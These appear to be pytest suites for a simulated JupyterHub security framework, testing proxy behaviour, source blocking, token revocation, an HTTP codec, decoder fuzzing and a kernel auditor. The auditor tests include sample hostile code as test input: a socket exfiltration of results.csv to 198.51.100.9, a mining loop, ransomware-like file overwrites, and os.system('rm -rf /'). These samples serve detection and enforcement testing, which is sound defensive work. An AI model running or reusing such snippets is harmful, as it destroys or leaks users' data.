        assert s.spawner.active["user01"].server.kernels

    def test_unknown_username_lands_on_default_tenant(self):
        s = build_hub_scenario(n_tenants=2, seed=33, seed_data=False)
        client = s.user_client(username="stolen-session")
        assert client.path_prefix == "/user/user00"
        assert client.token == s.token


class TestProxyEdgeCases:
    def test_frames_sent_before_101_are_not_lost(self):
        """A real client fires frames right behind the handshake without
        waiting for the 101; the proxy must pipe them once upgraded."""
        from repro.wire.http import parse_response
        from repro.wire.websocket import (
            Opcode, WebSocketDecoder, build_handshake_request, encode_ping)

        s = build_hub_scenario(n_tenants=1, seed_data=False)
        client = s.user_client(username="user00")
        kid = client.start_kernel()
        conn = s.user_host.connect(s.server_host, s.hub_config.port)
        state = {"buf": b"", "decoder": None}

        def on_data(data):
            if state["decoder"] is None:
                state["buf"] += data
                resp, rest = parse_response(state["buf"])
                if resp is None:
                    return
                assert resp.status == 101
                state["decoder"] = WebSocketDecoder()
                state["decoder"].feed(rest)
            else:
                state["decoder"].feed(data)

        conn.on_data_client = on_data
        req = build_handshake_request(
            "hub:8000", f"/user/user00/api/kernels/{kid}/channels",
            "x3JJHMbDL1EzLkh9GBhXDw==", token=s.hub.users["user00"].token)
        conn.send_to_server(req.encode())
        # No network.run between: the PING races the 101 through the proxy.
        conn.send_to_server(encode_ping(b"hi", mask_key=b"\x01\x02\x03\x04"))
        s.run(5.0)
        assert state["decoder"] is not None
        pongs = [(op, p) for op, p in state["decoder"].messages()
                 if op == Opcode.PONG]
        assert pongs and pongs[0][1] == b"hi"

    def test_pipelined_local_and_relayed_responses_stay_ordered(self):
        """A /user (relayed) then /hub (local) request in one segment must
        answer in request order, not local-first."""
        from repro.wire.http import HttpRequest, parse_response

        s = build_hub_scenario(n_tenants=1, seed_data=False)
        token = s.hub.users["user00"].token
        raw = (HttpRequest("GET", "/user/user00/api/status",
                           {"Host": "hub", "Authorization": f"token {token}"}).encode()
               + HttpRequest("GET", "/hub/api",
                             {"Host": "hub", "Authorization": f"token {token}"}).encode())
        conn = s.user_host.connect(s.server_host, s.hub_config.port)
        responses = []
        buf = b""

        def on_data(data):
            nonlocal buf
            buf += data
            while True:
                resp, rest = parse_response(buf)
                if resp is None:
                    return
                responses.append(resp)
                buf = rest

        conn.on_data_client = on_data
        conn.send_to_server(raw)
        s.run(5.0)
        assert len(responses) == 2
        assert b"started" in responses[0].body          # backend /api/status
        assert b"servers_running" in responses[1].body  # hub API second

    def test_proxy_backend_leg_is_not_a_client_login(self):
        """The proxy's own authenticated requests to backends must not
        read as stolen-credential logins after the learning period."""
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        s.run(3700.0)  # past NewSourceDetector.learning_until
        client = s.user_client(username="user00")
        assert client.request("GET", "/api/status").status == 200
        proxy_ip = s.proxy.host.ip
        assert not any(n.name == "NEW_SOURCE_LOGIN" and n.src == proxy_ip
                       for n in s.monitor.logs.notices)

    def test_closed_channels_are_pruned(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        client = s.user_client(username="user00")
        for _ in range(5):
            client.request("GET", "/api/status")
        s.run(5.0)
        assert len(s.proxy.channels) == 0


class TestProxyBufferCaps:
    def test_client_request_that_never_completes_is_rejected(self):
        """Headers that never terminate must hit the buffer cap, answer
        431, and count in stats — not grow proxy memory forever."""
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=HubConfig(proxy_buffer_limit=2048))
        conn = s.user_host.connect(s.server_host, s.hub_config.port)
        got = []
        conn.on_data_client = got.append
        conn.send_to_server(b"GET /hub/api HTTP/1.1\r\nX-Pad: " + b"A" * 5000)
        s.run(5.0)
        raw = b"".join(got)
        assert raw.startswith(b"HTTP/1.1 431")
        assert s.proxy.stats.buffer_overflows == 1
        assert not conn.open

    def test_withholding_backend_surfaces_upstream_error(self):
        """A backend that streams an endless unfinished response must be
        cut off at the cap and surface as a 502 upstream error."""
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=HubConfig(proxy_buffer_limit=8192))
        evil = s.network.add_host("evil-backend", "10.9.9.9")

        def accept(conn):
            conn.on_data_server = lambda data: conn.send_to_client(
                b"HTTP/1.1 200 OK\r\nContent-Length: 999999\r\n\r\n" + b"A" * 30000)
        evil.listen(9000, accept)
        from repro.hub.proxy import RouteEntry

        s.proxy.routes["user00"] = RouteEntry(
            username="user00", host=evil, port=9000, created=0.0)
        client = s.user_client(username="user00")
        resp = client.request("GET", "/api/status")
        assert resp.status == 502
        assert s.proxy.stats.buffer_overflows >= 1
        assert s.proxy.stats.upstream_errors >= 1

    def test_complete_headers_with_oversize_body_get_413(self):
        """Headers finished but a declared body beyond the cap: the
        status distinguishes body overflow (413) from header overflow."""
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=HubConfig(proxy_buffer_limit=2048))
        conn = s.user_host.connect(s.server_host, s.hub_config.port)
        got = []
        conn.on_data_client = got.append
        conn.send_to_server(b"POST /hub/signup HTTP/1.1\r\nContent-Length: 100000\r\n\r\n"
                            + b"B" * 8000)
        s.run(5.0)
        raw = b"".join(got)
        assert raw.startswith(b"HTTP/1.1 413")
        assert s.proxy.stats.buffer_overflows == 1

    def test_limit_zero_disables_the_cap(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=HubConfig(proxy_buffer_limit=0))
        conn = s.user_host.connect(s.server_host, s.hub_config.port)
        got = []
        conn.on_data_client = got.append
        conn.send_to_server(b"GET /hub/api HTTP/1.1\r\nX-Pad: " + b"A" * 5000)
        s.run(2.0)
        assert got == []  # still buffering, never rejected
        assert s.proxy.stats.buffer_overflows == 0

    def test_normal_traffic_unaffected_by_cap(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=HubConfig(proxy_buffer_limit=1 << 20))
        client = s.user_client(username="user00")
        assert client.request("GET", "/api/status").status == 200
        assert s.proxy.stats.buffer_overflows == 0


class TestProxyBlocklist:
    """Containment semantics at the front door (the SOC's block action)."""

    def test_blocked_source_gets_403_and_counters(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        attacker = s.attacker_client(token=s.token)
        assert attacker.request("GET", "/api/status").status == 200
        assert s.proxy.block_source(s.attacker_host.ip) is True
        resp = s.attacker_client(token=s.token).request("GET", "/api/status")
        assert resp.status == 403
        assert b"blocked" in resp.body
        assert s.proxy.stats.blocked_total == 1
        assert s.proxy.stats.denied_total >= 1
        # Idempotent: re-blocking reports False, service stays denied.
        assert s.proxy.block_source(s.attacker_host.ip) is False
        assert s.attacker_client(token=s.token).request(
            "GET", "/api/status").status == 403
        assert s.proxy.stats.blocked_total == 2

    def test_block_applies_to_hub_api_too(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        s.proxy.block_source(s.attacker_host.ip)
        client = s.attacker_client(token=s.hub_config.api_token)
        client.path_prefix = ""
        assert client.request("GET", "/hub/api").status == 403

    def test_unblock_restores_service(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        s.proxy.block_source(s.attacker_host.ip)
        assert s.attacker_client(token=s.token).request(
            "GET", "/api/status").status == 403
        assert s.proxy.unblock_source(s.attacker_host.ip) is True
        assert s.attacker_client(token=s.token).request(
            "GET", "/api/status").status == 200
        assert s.proxy.unblock_source(s.attacker_host.ip) is False
        assert s.attacker_host.ip not in s.proxy.summary()["blocked_sources"]

    def test_websocket_upgrade_rejected_while_blocked(self):
        from repro.util.errors import ProtocolError

        s = build_hub_scenario(n_tenants=1, seed_data=False)
        client = s.attacker_client(token=s.token)
        client.start_kernel()
        s.proxy.block_source(s.attacker_host.ip)
        with pytest.raises(ProtocolError, match="upgrade refused: 403"):
            client.connect_channels()

    def test_block_severs_established_websocket_pipe(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        client = s.user_client(username="user00")
        client.start_kernel()
        client.connect_channels()
        assert client.execute("1 + 1") is not None
        s.proxy.block_source(s.user_host.ip)
        s.run(1.0)
        assert not client._conn.open  # the relay came down with the block

    def test_other_sources_unaffected(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        s.proxy.block_source(s.attacker_host.ip)
        assert s.user_client(username="user01").request(
            "GET", "/api/status").status == 200


class TestTokenRevocation:
    def test_revoked_token_dies_new_token_works(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        old = s.hub.users["user01"].token
        stolen = s.attacker_client(token=old, tenant="user01")
        assert stolen.request("GET", "/api/status").status == 200
        new = s.hub.revoke_token("user01")
        assert new is not None and new != old
        assert s.hub.authenticate(old) == (None, False)
        assert s.attacker_client(token=old, tenant="user01").request(
            "GET", "/api/status").status == 403
        assert s.attacker_client(token=new, tenant="user01").request(
            "GET", "/api/status").status == 200
        assert s.hub.revocations == 1

    def test_revoke_unknown_user(self):
        users = HubUserDirectory(HubConfig())
        assert users.revoke_token("ghost") is None

    def test_revoke_peels_account_off_shared_token(self):
        cfg = HubConfig(api_token="shared", per_user_tokens=False)
        users = HubUserDirectory(cfg)
        users.create("a")
        users.create("b")
        new = users.revoke_token("a")
        assert new != "shared"
        assert users.users["a"].token == new
        # The hub token itself still authenticates as the hub.
        assert users.authenticate("shared") == (None, True)


class TestSpawnerQuarantine:
    def test_quarantine_stops_and_refuses_respawn(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        assert s.spawner.quarantine("user01") is True
        assert "user01" not in s.spawner.active
        assert "user01" not in s.proxy.routes
        with pytest.raises(SpawnError) as e:
            s.spawner.spawn(s.hub.users["user01"])
        assert e.value.status == 403
        # Release lifts the hold.
        assert s.spawner.release("user01") is True
        assert s.spawner.spawn(s.hub.users["user01"]).username == "user01"

    def test_quarantined_tenant_unreachable_through_proxy(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        s.spawner.quarantine("user01")
        client = s.user_client(username="user00")
        client.token = s.hub_config.api_token
        client.path_prefix = "/user/user01"
        assert client.request("GET", "/api/status").status == 503


class TestHubCli:
    def test_cli_insecure_with_attack(self, capsys):
        from repro.cli import hub as cli_hub

        rc = cli_hub.main(["--tenants", "4", "--insecure-hub", "--attack",
                           "--workload-tenants", "1", "--cells", "2", "--json"])
        assert rc == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["attack"]["success"] is True
        assert payload["hub_scan"]["grade"] == "F"
        assert "CROSS_TENANT_SWEEP" in payload["monitor_notices"]

    def test_umbrella_dispatcher(self, capsys):
        from repro.cli import main as cli_main

        assert cli_main.main(["-h"]) == 0
        assert "hub" in capsys.readouterr().out
        assert cli_main.main([]) == 2  # no subcommand is a usage error
        assert cli_main.main(["no-such-command"]) == 2
