"""Tests for the HTTP/1.1 codec."""

import pytest

from repro.util.errors import ProtocolError
from repro.wire.http import HttpRequest, HttpResponse, parse_request, parse_response


class TestRequestEncodeParse:
    def test_roundtrip_get(self):
        req = HttpRequest("GET", "/api/contents?path=work", {"Host": "hub.ncsa.edu"})
        parsed, rest = parse_request(req.encode())
        assert rest == b""
        assert parsed.method == "GET"
        assert parsed.path == "/api/contents"
        assert parsed.query == {"path": ["work"]}
        assert parsed.header("host") == "hub.ncsa.edu"

    def test_roundtrip_post_body(self):
        req = HttpRequest("POST", "/api/kernels", {"Host": "h"}, b'{"name":"python3"}')
        parsed, rest = parse_request(req.encode())
        assert parsed.body == b'{"name":"python3"}'
        assert rest == b""

    def test_incomplete_returns_none(self):
        data = b"GET / HTTP/1.1\r\nHost: h\r\n"
        parsed, rest = parse_request(data)
        assert parsed is None
        assert rest == data

    def test_incomplete_body_returns_none(self):
        raw = b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"
        parsed, _ = parse_request(raw)
        assert parsed is None

    def test_pipelined_requests(self):
        raw = HttpRequest("GET", "/a", {"Host": "h"}).encode() + HttpRequest(
            "GET", "/b", {"Host": "h"}
        ).encode()
        r1, rest = parse_request(raw)
        r2, rest = parse_request(rest)
        assert (r1.target, r2.target) == ("/a", "/b")
        assert rest == b""

    def test_malformed_request_line(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GARBAGE\r\n\r\n")

    def test_bad_version(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GET / SPDY/9\r\n\r\n")

    def test_malformed_header(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GET / HTTP/1.1\r\nno-colon-here\r\n\r\n")

    def test_chunked_rejected(self):
        with pytest.raises(ProtocolError):
            parse_request(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")

    def test_websocket_upgrade_detection(self):
        req = HttpRequest(
            "GET",
            "/api/kernels/k1/channels",
            {"Connection": "keep-alive, Upgrade", "Upgrade": "websocket"},
        )
        parsed, _ = parse_request(req.encode())
        assert parsed.is_websocket_upgrade()

    def test_not_upgrade(self):
        parsed, _ = parse_request(HttpRequest("GET", "/", {"Host": "h"}).encode())
        assert not parsed.is_websocket_upgrade()


class TestResponseEncodeParse:
    def test_roundtrip(self):
        resp = HttpResponse(200, body=b'{"ok":true}')
        parsed, rest = parse_response(resp.encode())
        assert parsed.status == 200
        assert parsed.body == b'{"ok":true}'
        assert rest == b""

    def test_default_reason_phrase(self):
        assert b"404 Not Found" in HttpResponse(404).encode()

    def test_101_has_no_body_and_preserves_remainder(self):
        raw = HttpResponse(101, headers={"Upgrade": "websocket"}).encode() + b"\x81\x05hello"
        parsed, rest = parse_response(raw)
        assert parsed.status == 101
        assert rest == b"\x81\x05hello"

    def test_incomplete(self):
        parsed, _ = parse_response(b"HTTP/1.1 200 OK\r\n")
        assert parsed is None

    def test_malformed_status(self):
        with pytest.raises(ProtocolError):
            parse_response(b"NOPE\r\n\r\n")
