"""Tests for the HTTP/1.1 codec."""

import pytest

from repro.util.errors import ProtocolError
from repro.wire.http import HttpRequest, HttpResponse, parse_request, parse_response


class TestRequestEncodeParse:
    def test_roundtrip_get(self):
        req = HttpRequest("GET", "/api/contents?path=work", {"Host": "hub.ncsa.edu"})
        parsed, rest = parse_request(req.encode())
        assert rest == b""
        assert parsed.method == "GET"
        assert parsed.path == "/api/contents"
        assert parsed.query == {"path": ["work"]}
        assert parsed.header("host") == "hub.ncsa.edu"

    def test_roundtrip_post_body(self):
        req = HttpRequest("POST", "/api/kernels", {"Host": "h"}, b'{"name":"python3"}')
        parsed, rest = parse_request(req.encode())
        assert parsed.body == b'{"name":"python3"}'
        assert rest == b""

    def test_incomplete_returns_none(self):
        data = b"GET / HTTP/1.1\r\nHost: h\r\n"
        parsed, rest = parse_request(data)
        assert parsed is None
        assert rest == data

    def test_incomplete_body_returns_none(self):
        raw = b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"
        parsed, _ = parse_request(raw)
        assert parsed is None

    def test_pipelined_requests(self):
        raw = HttpRequest("GET", "/a", {"Host": "h"}).encode() + HttpRequest(
            "GET", "/b", {"Host": "h"}
        ).encode()
        r1, rest = parse_request(raw)
        r2, rest = parse_request(rest)
        assert (r1.target, r2.target) == ("/a", "/b")
        assert rest == b""

    def test_malformed_request_line(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GARBAGE\r\n\r\n")

    def test_bad_version(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GET / SPDY/9\r\n\r\n")

    def test_malformed_header(self):
        with pytest.raises(ProtocolError):
            parse_request(b"GET / HTTP/1.1\r\nno-colon-here\r\n\r\n")

    def test_chunked_rejected(self):
        with pytest.raises(ProtocolError):
            parse_request(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")

    def test_websocket_upgrade_detection(self):
        req = HttpRequest(
            "GET",
            "/api/kernels/k1/channels",
            {"Connection": "keep-alive, Upgrade", "Upgrade": "websocket"},
        )
        parsed, _ = parse_request(req.encode())
        assert parsed.is_websocket_upgrade()

    def test_not_upgrade(self):
        parsed, _ = parse_request(HttpRequest("GET", "/", {"Host": "h"}).encode())
        assert not parsed.is_websocket_upgrade()


class TestResponseEncodeParse:
    def test_roundtrip(self):
        resp = HttpResponse(200, body=b'{"ok":true}')
        parsed, rest = parse_response(resp.encode())
        assert parsed.status == 200
        assert parsed.body == b'{"ok":true}'
        assert rest == b""

    def test_default_reason_phrase(self):
        assert b"404 Not Found" in HttpResponse(404).encode()

    def test_101_has_no_body_and_preserves_remainder(self):
        raw = HttpResponse(101, headers={"Upgrade": "websocket"}).encode() + b"\x81\x05hello"
        parsed, rest = parse_response(raw)
        assert parsed.status == 101
        assert rest == b"\x81\x05hello"

    def test_incomplete(self):
        parsed, _ = parse_response(b"HTTP/1.1 200 OK\r\n")
        assert parsed is None

    def test_malformed_status(self):
        with pytest.raises(ProtocolError):
            parse_response(b"NOPE\r\n\r\n")


class TestContentLengthValidation:
    """Malformed Content-Length must surface as ProtocolError (which every
    caller handles), never as a ValueError escaping a data callback."""

    def test_negative_content_length_request(self):
        from repro.wire.buffer import ByteCursor
        from repro.wire.http import parse_request_from

        raw = b"POST /x HTTP/1.1\r\nContent-Length: -5\r\n\r\nAAAAAAAAAA"
        with pytest.raises(ProtocolError, match="negative"):
            parse_request(raw)
        with pytest.raises(ProtocolError, match="negative"):
            parse_request_from(ByteCursor(raw))

    def test_garbage_content_length_request(self):
        raw = b"POST /x HTTP/1.1\r\nContent-Length: banana\r\n\r\n"
        with pytest.raises(ProtocolError, match="invalid"):
            parse_request(raw)

    def test_negative_content_length_response(self):
        from repro.wire.buffer import ByteCursor
        from repro.wire.http import parse_response_from

        raw = b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nBB"
        with pytest.raises(ProtocolError, match="negative"):
            parse_response(raw)
        with pytest.raises(ProtocolError, match="negative"):
            parse_response_from(ByteCursor(raw))

    def test_non_numeric_status_line_is_protocol_error(self):
        raw = b"HTTP/1.1 abc\r\n\r\n"
        with pytest.raises(ProtocolError, match="non-numeric"):
            parse_response(raw)
