"""Tests for the kernel auditing tool: features, policies, provenance, auditor."""

import pytest

from repro.audit import (
    KernelAuditor,
    Policy,
    PolicyAction,
    PolicyEngine,
    ProvenanceGraph,
    default_policies,
    extract_features,
)
from repro.kernel import KernelRuntime, KernelWorld
from repro.messaging import Session
from repro.taxonomy.oscrp import Avenue

MINER_CODE = (
    "import hashlib\n"
    "nonce = 0\n"
    "for i in range(1000):\n"
    "    h = hashlib.sha256(str(nonce))\n"
    "    nonce += 1\n"
)

EXFIL_CODE = (
    "import socket\n"
    "data = open('results.csv').read()\n"
    "s = socket.socket()\n"
    "s.connect(('198.51.100.9', 443))\n"
    "s.send(data)\n"
)

RANSOM_CODE = "\n".join(
    f"f{i} = open('file{i}.dat', 'w')\nf{i}.write('x')\nf{i}.close()" for i in range(6)
)


class TestFeatureExtraction:
    def test_imports(self):
        f = extract_features("import os\nimport socket\nfrom hashlib import sha256")
        assert f.imports == {"os", "socket", "hashlib"}

    def test_sensitive_calls(self):
        f = extract_features("import os\nos.system('id')\nos.remove('x')")
        assert f.sensitive_calls["proc"] == 1
        assert f.sensitive_calls["file-delete"] == 1

    def test_open_write_detection(self):
        f = extract_features("a = open('x', 'w')\nb = open('y')\nc = open('z', 'ab')")
        assert f.open_write_count == 2
        assert f.sensitive_calls["file-open"] == 3

    def test_miner_shape(self):
        f = extract_features(MINER_CODE)
        assert f.has_loop
        assert f.hash_calls_in_loop == 1
        assert f.miner_shape_score() >= 0.5

    def test_hash_outside_loop_not_miner(self):
        f = extract_features("import hashlib\nh = hashlib.sha256(b'x')")
        assert f.hash_calls_in_loop == 0
        assert f.miner_shape_score() == 0.0

    def test_nested_loop_depth(self):
        f = extract_features("for i in range(2):\n    while True:\n        pass")
        assert f.loop_depth_max == 2

    def test_obfuscation_score(self):
        import base64
        import os

        blob = base64.b64encode(bytes(range(256)) * 20).decode()
        f = extract_features(f"payload = '{blob}'")
        assert f.obfuscation_score() > 0.4
        benign = extract_features("msg = 'hello world, this is a plain string'")
        assert benign.obfuscation_score() == 0.0

    def test_syntax_error_flag(self):
        assert extract_features("def broken(:").syntax_error

    def test_node_count_scales(self):
        small = extract_features("x = 1")
        large = extract_features("\n".join(f"x{i} = {i}" for i in range(100)))
        assert large.node_count > 10 * small.node_count


class TestPolicies:
    def test_miner_policy_alerts(self):
        engine = PolicyEngine()
        verdicts = engine.evaluate(extract_features(MINER_CODE))
        assert any(v.policy == "miner-shape" for v in verdicts)

    def test_exfil_shape_policy(self):
        verdicts = PolicyEngine().evaluate(extract_features(EXFIL_CODE))
        assert any(v.policy == "net-plus-file-read" for v in verdicts)

    def test_mass_overwrite_policy(self):
        verdicts = PolicyEngine().evaluate(extract_features(RANSOM_CODE))
        assert any(v.policy == "mass-file-overwrite" for v in verdicts)

    def test_benign_code_clean(self):
        benign = "import math\nresults = [math.sqrt(x) for x in range(100)]\nprint(sum(results))"
        assert PolicyEngine().evaluate(extract_features(benign)) == []

    def test_enforce_mode_upgrades_action(self):
        enforcing = default_policies(enforce=True)
        proc = next(p for p in enforcing if p.name == "proc-spawn")
        assert proc.action == PolicyAction.DENY
        alerting = default_policies(enforce=False)
        assert next(p for p in alerting if p.name == "proc-spawn").action == PolicyAction.ALERT

    def test_custom_policy(self):
        engine = PolicyEngine([])
        engine.add(Policy("no-torch", "torch import banned", lambda f: "torch" in f.imports))
        assert engine.evaluate(extract_features("import torch"))
        assert not engine.evaluate(extract_features("import math"))

    def test_hit_accounting(self):
        engine = PolicyEngine()
        engine.evaluate(extract_features(MINER_CODE))
        engine.evaluate(extract_features(MINER_CODE))
        assert engine.hits["miner-shape"] == 2


class TestProvenance:
    def test_read_write_lineage(self):
        g = ProvenanceGraph()
        g.add_execution(1, user="alice", ts=0.0)
        g.record_read(1, "data.csv", 1.0, 100)
        g.record_write(1, "out.csv", 2.0, 50)
        assert g.executions_touching("data.csv") == ["exec:1"]
        assert g.executions_touching("out.csv") == ["exec:1"]
        assert g.users_of("exec:1") == ["alice"]

    def test_exfil_lineage(self):
        g = ProvenanceGraph()
        g.add_execution(1, user="mallory", ts=0.0)
        g.record_read(1, "weights.bin", 1.0, 10_000)
        g.record_connect(1, "198.51.100.9", 443, 2.0)
        g.record_send(1, "198.51.100.9", 443, 3.0, 10_000)
        assert g.exfil_lineage("198.51.100.9", 443) == ["weights.bin"]
        assert g.bytes_sent_to("198.51.100.9", 443) == 10_000
        assert g.external_contacts() == [("198.51.100.9", 443)]

    def test_file_history_ordered(self):
        g = ProvenanceGraph()
        g.add_execution(1, user="a", ts=0.0)
        g.add_execution(2, user="b", ts=5.0)
        g.record_write(1, "nb.ipynb", 1.0, 10)
        g.record_write(2, "nb.ipynb", 6.0, 10)
        hist = g.file_history("nb.ipynb")
        assert [h["ts"] for h in hist] == [1.0, 6.0]

    def test_rename_tracked(self):
        g = ProvenanceGraph()
        g.add_execution(1, user="m", ts=0.0)
        g.record_rename(1, "a.ipynb", "a.ipynb.locked", 1.0)
        assert "exec:1" in g.executions_touching("a.ipynb.locked")

    def test_missing_nodes_safe(self):
        g = ProvenanceGraph()
        assert g.executions_touching("ghost") == []
        assert g.exfil_lineage("1.2.3.4", 80) == []
        assert g.bytes_sent_to("1.2.3.4", 80) == 0
        assert g.file_history("ghost") == []

    def test_node_counts(self):
        g = ProvenanceGraph()
        g.add_execution(1, user="a", ts=0.0)
        g.record_write(1, "f", 1.0)
        counts = g.node_counts()
        assert counts == {"execution": 1, "user": 1, "file": 1}


def make_audited_kernel(*, enforce=False, monitor=None):
    world = KernelWorld()
    world.fs.write("home/results.csv", b"a,b\n1,2\n" * 100)
    kernel = KernelRuntime(world, key=b"k")
    auditor = KernelAuditor(kernel, enforce=enforce, monitor=monitor)
    client = Session(b"k")
    return kernel, auditor, client


class TestKernelAuditor:
    def test_benign_cell_recorded_clean(self):
        kernel, auditor, client = make_audited_kernel()
        kernel.handle(client.execute_request("x = sum(range(10))"))
        assert len(auditor.records) == 1
        rec = auditor.records[0]
        assert rec.verdicts == [] and not rec.denied
        assert rec.status == "ok"
        assert rec.resources["cpu_seconds"] > 0

    def test_miner_cell_alerts(self):
        kernel, auditor, client = make_audited_kernel()
        kernel.handle(client.execute_request(MINER_CODE))
        assert "POLICY_MINER_SHAPE" in auditor.notice_names()

    def test_enforce_mode_denies_proc_spawn(self):
        kernel, auditor, client = make_audited_kernel(enforce=True)
        msgs = kernel.handle(client.execute_request("import os\nos.system('rm -rf /')"))
        assert msgs[0].content["status"] == "error"
        assert msgs[0].content["ename"] == "SecurityViolation"
        assert auditor.denied_count() == 1

    def test_alert_mode_allows_execution(self):
        kernel, auditor, client = make_audited_kernel(enforce=False)
        msgs = kernel.handle(client.execute_request(RANSOM_CODE))
        assert msgs[0].content["status"] == "ok"  # ran, but alerted
        assert "POLICY_MASS_FILE_OVERWRITE" in auditor.notice_names()

    def test_provenance_built_from_events(self):
        kernel, auditor, client = make_audited_kernel()
        kernel.handle(client.execute_request("text = open('results.csv').read()"))
        kernel.handle(client.execute_request(
            "f = open('copy.csv', 'w')\nf.write(text)\nf.close()"))
        assert auditor.provenance.executions_touching("home/results.csv") == ["exec:1"]
        assert auditor.provenance.executions_touching("home/copy.csv") == ["exec:2"]

    def test_cpu_abuse_notice(self):
        kernel, auditor, client = make_audited_kernel()
        kernel.handle(client.execute_request(
            "total = 0\nfor i in range(600000):\n    total += 1"))
        # 600k iterations ~ several million ops >= 2 CPU-seconds.
        assert "CPU_ABUSE" in auditor.notice_names()
        notice = next(n for n in auditor.notices if n.name == "CPU_ABUSE")
        assert notice.avenue == Avenue.CRYPTOMINING

    def test_monitor_cross_feed(self):
        from repro.monitor import JupyterNetworkMonitor

        monitor = JupyterNetworkMonitor()
        kernel, auditor, client = make_audited_kernel(monitor=monitor)
        # Encrypt-like write burst via kernel code (in-kernel ransomware).
        code = (
            "import random\n"
            + "\n".join(
                f"f{i} = open('v{i}.locked', 'wb')\nf{i}.write(random.randbytes(300))\nf{i}.close()"
                for i in range(6)
            )
        )
        kernel.handle(client.execute_request(code))
        assert "RANSOMWARE_ENTROPY_BURST" in monitor.logs.notice_names()

    def test_summary_shape(self):
        kernel, auditor, client = make_audited_kernel()
        kernel.handle(client.execute_request("x = 1"))
        s = auditor.summary()
        assert s["executions"] == 1
        assert s["provenance_nodes"]["execution"] == 1
