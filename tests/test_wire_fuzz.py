"""Chunk-boundary fuzz: cursor decoders vs whole-buffer oracles.

The zero-copy rewrite of :class:`WebSocketDecoder` / :class:`ZmtpDecoder`
must be *observably identical* to the seed decoders: same frames, same
messages, same commands, same byte accounting, and the same errors at
the same feed — no matter how the stream is sliced into chunks.  The
oracles below re-implement the seed's whole-buffer algorithm verbatim
(``buffer += data`` then repeated one-shot decode + re-slice) on top of
the pure one-shot codec functions, and every trace is fed to both sides
in one-shot, 1-byte, and random-sized chunkings.
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.util.errors import ProtocolError
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    decode_frame,
    encode_close,
    encode_frame,
    encode_ping,
    encode_pong,
    fragment_message,
)
from repro.wire.zmtp import (
    ZmtpDecoder,
    ZmtpFrame,
    decode_zmtp_frame,
    encode_greeting,
    encode_multipart,
    encode_ready,
    encode_zmtp_frame,
    parse_greeting,
)


class OracleWsDecoder:
    """The seed's WebSocketDecoder feed loop, bit for bit: O(n²) buffer
    re-slicing over the one-shot :func:`decode_frame`.  One intentional
    divergence from the seed is replicated here so it stays covered: the
    cursor decoder rejects a frame *declaring* more than
    ``max_message_size`` at header time (withholding-peer DoS fix)."""

    def __init__(self, *, max_message_size: int = 64 * 1024 * 1024):
        self._buffer = b""
        self._fragments = []
        self._fragment_opcode = None
        self.frames = []
        self.messages = []
        self.max_message_size = max_message_size
        self.bytes_consumed = 0

    def _check_declared_length(self) -> None:
        buf = self._buffer
        if len(buf) < 2:
            return
        length = buf[1] & 0x7F
        if length == 126:
            if len(buf) < 4:
                return
            length = int.from_bytes(buf[2:4], "big")
        elif length == 127:
            if len(buf) < 10:
                return
            length = int.from_bytes(buf[2:10], "big")
        if length > self.max_message_size:
            raise ProtocolError(
                f"declared frame length {length} exceeds cap ({self.max_message_size})")

    def feed(self, data: bytes) -> None:
        self._buffer += data
        while True:
            before = len(self._buffer)
            frame, self._buffer = decode_frame(self._buffer)
            if frame is None:
                self._check_declared_length()
                break
            self.bytes_consumed += before - len(self._buffer)
            self.frames.append(frame)
            self._process(frame)

    def _process(self, frame: Frame) -> None:
        if frame.opcode.is_control:
            self.messages.append((frame.opcode, frame.payload))
            return
        if frame.opcode == Opcode.CONTINUATION:
            if self._fragment_opcode is None:
                raise ProtocolError("continuation frame with no message in progress")
            self._fragments.append(frame.payload)
        else:
            if self._fragment_opcode is not None:
                raise ProtocolError("new data frame while fragmented message in progress")
            self._fragment_opcode = frame.opcode
            self._fragments = [frame.payload]
        total = sum(len(f) for f in self._fragments)
        if total > self.max_message_size:
            raise ProtocolError(f"message exceeds cap ({total} > {self.max_message_size})")
        if frame.fin:
            self.messages.append((self._fragment_opcode, b"".join(self._fragments)))
            self._fragment_opcode = None
            self._fragments = []


class OracleZmtpDecoder:
    """The seed's ZmtpDecoder feed loop on one-shot codec functions,
    plus the cursor decoder's one intentional divergence: oversize
    declared LONG frames are rejected at header time."""

    def __init__(self, *, max_frame_size: int = 64 * 1024 * 1024):
        self._buffer = b""
        self.greeting = None
        self._parts = []
        self.messages = []
        self.commands = []
        self.max_frame_size = max_frame_size
        self.bytes_consumed = 0

    def _check_declared_length(self) -> None:
        buf = self._buffer
        if len(buf) >= 9 and buf[0] & 0x02:  # FLAG_LONG
            n = int.from_bytes(buf[1:9], "big")
            if n > self.max_frame_size:
                raise ProtocolError(
                    f"declared ZMTP frame length {n} exceeds cap ({self.max_frame_size})")

    def feed(self, data: bytes) -> None:
        self._buffer += data
        if self.greeting is None:
            if len(self._buffer) < 64:
                return
            self.greeting, self._buffer = parse_greeting(self._buffer)
